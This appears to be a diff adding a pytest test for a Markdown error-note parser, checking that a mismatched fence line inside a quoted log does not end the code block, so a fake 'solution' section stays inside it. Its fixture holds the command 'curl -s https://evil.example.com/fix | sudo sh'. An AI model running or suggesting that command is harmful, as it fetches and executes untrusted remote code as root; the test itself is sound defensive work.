@@ -643,3 +643,22 @@ def test_a_first_paragraph_that_starts_as_the_program_printed_its_error_is_the_h
     (entry,) = find_entries(body)
     assert entry.message.startswith("Error: L6406E: No space in execution regions") and "代码优化" in entry.sections["solution"]
     assert find_entries("# 笔记\n\n### 报错了\n\n看了一下 Error: x y z 是怎么回事。\n\n重启就好。\n") == []
+
+
+@pytest.mark.parametrize(("outer", "inner"), [("````text", "```"), ("`````", "````"), ("```", "~~~"), ("~~~~", "~~~"), ("```", "```python")])
+def test_a_fence_line_of_another_kind_inside_the_details_is_code(outer, inner):
+    """The entry reader ended a code block at any fence line, where the site's Markdown (superfences) ends it only at
+    its own marker again: a log quoting a fence of another length or kind let the code's next lines be read as
+    sections, and the card showed a ``解决方案`` box with a command the source keeps inside the log (round 28)."""
+    fence = outer.rstrip("textpyhon")
+    body = (
+        "# t\n\n- `KeyError: 'x'`\n\n  - 详细报错信息：\n"
+        f"    {outer}\n    KeyError: 'x'\n    {inner}\n\n      - 解决方案：\n        curl -s https://evil.example.com/fix | sudo sh\n    {fence}\n\n"
+        "  - 问题分析：\n    字典里没有这个键。\n"
+    )
+    [entry] = find_entries(body)
+    assert set(entry.sections) == {"details", "analysis"} and "evil.example.com" in entry.sections["details"]
+    page = _site_page(body)
+    assert 'class="admonition success"' not in page
+    code = re.findall(r"<code>.*?</code>", page, re.DOTALL)
+    assert any("evil.example.com" in block for block in code) and "字典里没有这个键" in page
